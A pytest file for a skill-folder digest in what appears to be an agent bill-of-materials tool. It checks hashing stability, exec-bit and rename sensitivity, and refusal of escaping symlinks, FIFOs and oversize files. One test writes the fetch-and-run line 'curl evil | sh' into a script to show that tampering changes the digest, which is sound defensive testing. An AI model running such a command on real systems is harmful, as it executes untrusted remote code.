"""The skill folder digest: documented algorithm, stability, and refusals."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest

from agbom.errors import AgbomError
from agbom.inventory.skill_digest import SkillDigestError, digest_skill_folder


def _skill(root: Path) -> Path:
    (root / "scripts").mkdir(parents=True)
    (root / "SKILL.md").write_bytes(b"---\nname: demo\ndescription: Demo.\n---\nBody\n")
    (root / "scripts" / "run.sh").write_bytes(b"#!/bin/sh\necho hi\n")
    os.chmod(root / "scripts" / "run.sh", 0o755)
    return root


def _reference(root: Path) -> str:
    """An independent reimplementation of the documented steps (docs/skills.md)."""
    entries = []
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d != ".git"]
        for name in filenames:
            full = Path(dirpath) / name
            rel = full.relative_to(root).as_posix().encode()
            data = full.read_bytes()
            exe = "x" if os.stat(full).st_mode & 0o100 else "-"
            entries.append((rel, exe, data))
    entries.sort()
    manifest = b"agbom-skill-digest/1\n"
    for rel, exe, data in entries:
        sha = hashlib.sha256(data).hexdigest()
        manifest += f"f {exe} {len(data)} {sha} {len(rel)} ".encode() + rel + b"\n"
    return hashlib.sha256(manifest).hexdigest()


def test_matches_documented_algorithm(tmp_path: Path) -> None:
    root = _skill(tmp_path / "demo")
    digest = digest_skill_folder(root)
    assert digest.algorithm == "sha256"
    assert digest.value == _reference(root)
    assert [f.path for f in digest.files] == ["SKILL.md", "scripts/run.sh"]
    assert digest.files[1].executable and not digest.files[0].executable


def test_worked_example_in_docs(tmp_path: Path) -> None:
    """The example folder of docs/skills.md hashes to the digest printed there."""
    root = tmp_path / "hello-skill"
    (root / "scripts").mkdir(parents=True)
    (root / "SKILL.md").write_bytes(
        b"---\nname: hello-skill\ndescription: Says hello.\n---\nRun scripts/hello.sh.\n"
    )
    (root / "scripts" / "hello.sh").write_bytes(b"#!/bin/sh\necho hello\n")
    os.chmod(root / "scripts" / "hello.sh", 0o755)
    docs = (Path(__file__).resolve().parents[2] / "docs" / "skills.md").read_text()
    value = digest_skill_folder(root).value
    assert value in docs


def test_stable_across_copies_and_time(tmp_path: Path) -> None:
    a = _skill(tmp_path / "a" / "demo")
    b = _skill(tmp_path / "b" / "demo")
    os.utime(b / "SKILL.md", (1, 1))
    assert digest_skill_folder(a).value == digest_skill_folder(b).value


def test_exec_bit_change_changes_digest(tmp_path: Path) -> None:
    root = _skill(tmp_path / "demo")
    before = digest_skill_folder(root).value
    os.chmod(root / "scripts" / "run.sh", 0o644)
    assert digest_skill_folder(root).value != before


def test_script_change_under_same_skill_md_changes_digest(tmp_path: Path) -> None:
    root = _skill(tmp_path / "demo")
    before = digest_skill_folder(root)
    (root / "scripts" / "run.sh").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    after = digest_skill_folder(root)
    assert after.value != before.value
    assert after.files[0] == before.files[0]  # SKILL.md unchanged


def test_rename_changes_digest(tmp_path: Path) -> None:
    root = _skill(tmp_path / "demo")
    before = digest_skill_folder(root).value
    (root / "scripts" / "run.sh").rename(root / "scripts" / "run2.sh")
    assert digest_skill_folder(root).value != before


def test_empty_directory_does_not_change_digest(tmp_path: Path) -> None:
    root = _skill(tmp_path / "demo")
    before = digest_skill_folder(root).value
    (root / "assets").mkdir()
    assert digest_skill_folder(root).value == before


def test_git_folder_is_skipped_and_reported(tmp_path: Path) -> None:
    root = _skill(tmp_path / "demo")
    before = digest_skill_folder(root).value
    (root / ".git").mkdir()
    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    digest = digest_skill_folder(root)
    assert digest.value == before
    assert digest.skipped == (".git",)


def test_internal_relative_symlink_hashed_as_link(tmp_path: Path) -> None:
    root = _skill(tmp_path / "demo")
    before = digest_skill_folder(root).value
    os.symlink("scripts/run.sh", root / "run")
    digest = digest_skill_folder(root)
    link = next(f for f in digest.files if f.path == "run")
    assert link.symlink and link.sha256 == hashlib.sha256(b"scripts/run.sh").hexdigest()
    assert digest.value != before


def test_symlink_escaping_folder_refused(tmp_path: Path) -> None:
    root = _skill(tmp_path / "demo")
    (tmp_path / "secret.txt").write_text("x")
    os.symlink("../secret.txt", root / "leak")
    with pytest.raises(SkillDigestError, match=r"leak: symbolic link leaves the skill folder"):
        digest_skill_folder(root)


def test_absolute_symlink_refused(tmp_path: Path) -> None:
    root = _skill(tmp_path / "demo")
    os.symlink(str(root / "SKILL.md"), root / "abs")
    with pytest.raises(SkillDigestError, match="abs: symbolic link to an absolute path"):
        digest_skill_folder(root)


def test_fifo_refused(tmp_path: Path) -> None:
    root = _skill(tmp_path / "demo")
    os.mkfifo(root / "scripts" / "pipe")
    with pytest.raises(SkillDigestError, match=r"scripts/pipe: FIFO is refused"):
        digest_skill_folder(root)


def test_oversize_file_refused_and_is_agbom_error(tmp_path: Path) -> None:
    root = _skill(tmp_path / "demo")
    (root / "big.bin").write_bytes(b"0" * 2048)
    with pytest.raises(AgbomError, match=r"big.bin: 2048 bytes is over the 1024 byte limit"):
        digest_skill_folder(root, max_file_bytes=1024)


def test_too_many_files_refused(tmp_path: Path) -> None:
    root = _skill(tmp_path / "demo")
    for i in range(5):
        (root / f"f{i}.txt").write_text(str(i))
    with pytest.raises(SkillDigestError, match="more than 3 files"):
        digest_skill_folder(root, max_files=3)


def test_sort_is_by_utf8_bytes(tmp_path: Path) -> None:
    root = tmp_path / "demo"
    root.mkdir()
    for name in ("b", "B", "a-b", "a/b", "é"):
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if not path.exists():
            path.write_text(name)
    paths = [f.path for f in digest_skill_folder(root).files]
    assert paths == sorted(paths, key=lambda p: p.encode("utf-8"))
